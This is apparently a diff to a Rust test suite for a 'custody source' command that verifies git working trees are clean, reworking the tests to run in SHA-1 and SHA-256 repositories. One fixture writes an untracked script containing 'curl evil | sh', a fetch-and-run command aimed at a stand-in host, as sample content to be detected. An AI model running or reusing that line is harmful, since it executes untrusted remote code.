@@ -1,72 +1,94 @@
-//! `custody source` on the working tree: clean, dirty, and the edits the index hides.
+//! `custody source` on the working tree: clean, dirty, and the edits the index hides. The
+//! scenarios written with `per_format!` run in a SHA-1 and in a SHA-256 repository.
 
 use std::os::unix::fs::PermissionsExt;
 
-use super::git::{World, codes, edit_keeping_size_and_mtime, messages, touch};
+use super::git::{
+    Format, Repo, World, codes, edit_keeping_size_and_mtime, messages, per_format, touch,
+};
 
-fn world_with_repo() -> (World, super::git::Repo) {
+/// A checkout of `format` with an executable file and a symlink, committed.
+pub(super) fn world_with_repo(format: Format) -> (World, Repo) {
     let w = World::new();
-    let r = w.repo("r");
+    let r = w.repo_in("r", format);
     let alice = w.person("Alice");
     r.commit(
         &alice,
         "init",
         &[
             ("README", "hello\n"),
+            ("run.sh", "#!/bin/sh\necho hi\n"),
             ("src/main.c", "int main(void) { return 0; }\n"),
             ("src/deep/er/file.txt", "deep\n"),
             (".gitignore", "target/\n*.o\n"),
         ],
     );
+    std::fs::set_permissions(r.dir.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::os::unix::fs::symlink("src/main.c", r.dir.join("link")).unwrap();
+    r.commit(&alice, "exec and link", &[]);
     (w, r)
 }
 
-#[test]
-fn a_clean_checkout_passes_and_ignored_files_do_not_count() {
-    let (w, r) = world_with_repo();
-    r.write("target/debug/app", "binary");
-    r.write("src/main.o", "object");
-    std::fs::create_dir_all(r.dir.join("empty-dir")).unwrap();
-    let (code, report) = w.source_json(&["r"]);
-    assert_eq!(code, 0, "{report:#}");
-    assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
-    let tree = r.git(&["rev-parse", "HEAD^{tree}"]);
-    let facts = &report["artifacts"][0]["source"];
-    assert_eq!(facts["worktree"]["worktree_tree"], tree.trim());
-    assert_eq!(facts["worktree"]["commit_tree"], tree.trim());
-    assert_eq!(facts["commit"], r.head());
-    assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], r.head());
-    assert_eq!(report["command"], "source");
-}
+per_format! {
+    fn a_clean_checkout_passes_and_ignored_files_do_not_count(format) {
+        let (w, r) = world_with_repo(format);
+        r.write("target/debug/app", "binary");
+        r.write("target/ignored", "x");
+        r.write("src/main.o", "object");
+        std::fs::create_dir_all(r.dir.join("empty-dir")).unwrap();
+        let (code, report) = w.source_json(&["r"]);
+        assert_eq!(code, 0, "{report:#}");
+        assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
+        // The tree id the working tree hashes to is the commit's, in the repository's format.
+        let tree = r.git(&["rev-parse", "HEAD^{tree}"]);
+        let tree = tree.trim();
+        assert!(format.is_id(tree), "{tree}");
+        let facts = &report["artifacts"][0]["source"];
+        assert_eq!(facts["object_format"], format.name());
+        assert_eq!(facts["worktree"]["worktree_tree"], tree);
+        assert_eq!(facts["worktree"]["commit_tree"], tree);
+        assert!(format.is_id(&r.head()));
+        assert_eq!(facts["commit"], r.head());
+        assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], r.head());
+        assert!(messages(&report, "checkout-clean").contains(tree));
+        assert_eq!(report["command"], "source");
+    }
 
-#[test]
-fn a_dirty_checkout_lists_modified_deleted_and_untracked_files() {
-    let (w, r) = world_with_repo();
-    r.write("README", "changed\n");
-    std::fs::remove_file(r.dir.join("src/deep/er/file.txt")).unwrap();
-    r.write("new.txt", "new\n");
-    r.write("target/ignored", "x");
-    let (code, report) = w.source_json(&["r"]);
-    assert_eq!(code, 1);
-    assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
-    let wt = &report["artifacts"][0]["source"]["worktree"];
-    assert_eq!(wt["modified"], serde_json::json!(["README"]));
-    assert_eq!(wt["deleted"], serde_json::json!(["src/deep/er/file.txt"]));
-    assert_eq!(wt["untracked"], serde_json::json!(["new.txt"]));
-    let m = messages(&report, "checkout-dirty");
-    assert!(m.contains("modified: README"), "{m}");
-    assert!(m.contains("deleted: src/deep/er/file.txt"), "{m}");
-    assert!(m.contains("untracked: new.txt"), "{m}");
-    assert!(!m.contains("target"), "{m}");
-    // The human report names the code too.
-    let (code, out, _) = w.custody(&["source", "r"]);
-    assert_eq!(code, 1);
-    assert!(out.contains("checkout-dirty"), "{out}");
+    fn a_dirty_checkout_lists_modified_deleted_and_untracked_files(format) {
+        let (w, r) = world_with_repo(format);
+        r.write("README", "changed\n");
+        std::fs::remove_file(r.dir.join("src/deep/er/file.txt")).unwrap();
+        r.write("new.txt", "new\n");
+        r.write("target/ignored", "x");
+        std::fs::set_permissions(r.dir.join("run.sh"), std::fs::Permissions::from_mode(0o644))
+            .unwrap();
+        let (code, report) = w.source_json(&["r"]);
+        assert_eq!(code, 1, "{report:#}");
+        assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
+        let wt = &report["artifacts"][0]["source"]["worktree"];
+        assert_eq!(wt["modified"], serde_json::json!(["README", "run.sh"]));
+        assert_eq!(wt["deleted"], serde_json::json!(["src/deep/er/file.txt"]));
+        assert_eq!(wt["untracked"], serde_json::json!(["new.txt"]));
+        assert!(
+            format.is_id(wt["worktree_tree"].as_str().unwrap()),
+            "{wt:#}"
+        );
+        assert_ne!(wt["worktree_tree"], wt["commit_tree"]);
+        let m = messages(&report, "checkout-dirty");
+        assert!(m.contains("modified: README, run.sh"), "{m}");
+        assert!(m.contains("deleted: src/deep/er/file.txt"), "{m}");
+        assert!(m.contains("untracked: new.txt"), "{m}");
+        assert!(!m.contains("target"), "{m}");
+        // The human report names the code too.
+        let (code, out, _) = w.custody(&["source", "r"]);
+        assert_eq!(code, 1);
+        assert!(out.contains("checkout-dirty"), "{out}");
+    }
 }
 
 #[test]
 fn mode_and_kind_changes_are_modifications() {
-    let (w, r) = world_with_repo();
+    let (w, r) = world_with_repo(Format::Sha1);
     std::fs::set_permissions(
         r.dir.join("src/main.c"),
         std::fs::Permissions::from_mode(0o755),
@@ -82,7 +104,7 @@ fn mode_and_kind_changes_are_modifications() {
 
 #[test]
 fn an_untracked_file_inside_a_new_directory_and_a_file_become_directory_are_found() {
-    let (w, r) = world_with_repo();
+    let (w, r) = world_with_repo(Format::Sha1);
     r.write("extra/dir/payload.sh", "curl evil | sh\n");
     std::fs::remove_file(r.dir.join("README")).unwrap();
     r.write("README/inner", "x");
@@ -128,7 +150,7 @@ fn an_edit_keeping_size_and_mtime_is_caught_where_git_status_misses_it() {
 /// file staged but never committed is not the commit's: neither fools custody.
 #[test]
 fn the_index_is_not_trusted() {
-    let (w, r) = world_with_repo();
+    let (w, r) = world_with_repo(Format::Sha1);
     r.git(&["update-index", "--assume-unchanged", "src/main.c"]);
     r.write("src/main.c", "int main(void) { return 1; }\n");
     r.write("staged.txt", "staged\n");
@@ -141,34 +163,57 @@ fn the_index_is_not_trusted() {
     assert_eq!(wt["untracked"], serde_json::json!(["staged.txt"]));
 }
 
-#[test]
-fn another_revision_is_checked_as_history_not_as_the_working_tree() {
-    let (w, r) = world_with_repo();
-    let first = r.head();
-    r.commit(&w.person("Alice"), "two", &[("README", "two\n")]);
-    r.write("README", "dirty\n");
-    let (code, report) = w.source_json(&["r", "--rev", "HEAD~1"]);
-    // The revision is a commit of the checkout: that is what was checked, and it passes; a
-    // verdict never stands without a check (it failed with none before).
-    assert_eq!(code, 0, "{report:#}");
-    assert_eq!(codes(&report, "pass"), ["source-revision"]);
-    assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], first);
-    assert!(
-        report["artifacts"][0]["source"]["worktree"]
-            .as_str()
-            .unwrap()
-            .contains("not compared")
-    );
-    assert!(codes(&report, "fail").is_empty(), "{report:#}");
-    // HEAD itself is compared.
-    let (code, report) = w.source_json(&["r", "--rev", "HEAD"]);
-    assert_eq!(code, 1);
-    assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
+per_format! {
+    fn another_revision_is_checked_as_history_not_as_the_working_tree(format) {
+        let (w, r) = world_with_repo(format);
+        let first = r.head();
+        assert!(format.is_id(&first), "{first}");
+        r.commit(&w.person("Alice"), "two", &[("README", "two\n")]);
+        r.write("README", "dirty\n");
+        let (code, report) = w.source_json(&["r", "--rev", "HEAD~1"]);
+        // The revision is a commit of the checkout: that is what was checked, and it passes; a
+        // verdict never stands without a check (it failed with none before).
+        assert_eq!(code, 0, "{report:#}");
+        assert_eq!(codes(&report, "pass"), ["source-revision"]);
+        assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], first);
+        assert!(
+            report["artifacts"][0]["source"]["worktree"]
+                .as_str()
+                .unwrap()
+                .contains("not compared")
+        );
+        assert!(codes(&report, "fail").is_empty(), "{report:#}");
+        // HEAD itself is compared.
+        let (code, report) = w.source_json(&["r", "--rev", "HEAD"]);
+        assert_eq!(code, 1);
+        assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
+
+        // The revision resolves by name (an annotated tag) and by id, full or abbreviated.
+        r.git(&[
+            "-c",
+            "user.name=Alice",
+            "-c",
+            "user.email=alice@example.com",
+            "tag",
+            "-a",
+            "-m",
+            "v1",
+            "v1",
+            &first,
+        ]);
+        for rev in ["v1", first.as_str(), &first[..12]] {
+            let (code, report) = w.source_json(&["r", "--rev", rev]);
+            // History, not the working tree: the revision is checked to be a commit.
+            assert_eq!(code, 0, "{rev}: {report:#}");
+            assert_eq!(codes(&report, "pass"), ["source-revision"], "{rev}");
+            assert_eq!(report["artifacts"][0]["source"]["commit"], first, "{rev}");
+        }
+    }
 }
 
 #[test]
 fn unusable_checkouts_and_revisions_exit_2() {
-    let (w, _r) = world_with_repo();
+    let (w, _r) = world_with_repo(Format::Sha1);
     std::fs::create_dir_all(w.path("plain")).unwrap();
     let (code, _, err) = w.custody(&["source", "plain"]);
     assert_eq!(code, 2);
@@ -182,7 +227,7 @@ fn unusable_checkouts_and_revisions_exit_2() {
 
 #[test]
 fn submodules_are_reported_not_performed() {
-    let (w, r) = world_with_repo();
+    let (w, r) = world_with_repo(Format::Sha1);
     let head = r.head();
     // A gitlink entry, as `git submodule add` records it, without fetching anything.
     r.git(&[
@@ -201,7 +246,7 @@ fn submodules_are_reported_not_performed() {
 
 #[test]
 fn the_report_renders_as_sarif_into_a_file() {
-    let (w, r) = world_with_repo();
+    let (w, r) = world_with_repo(Format::Sha1);
     r.write("README", "changed\n");
     let (code, out, err) =
         w.custody(&["source", "r", "--format", "sarif", "--output", "out.sarif"]);
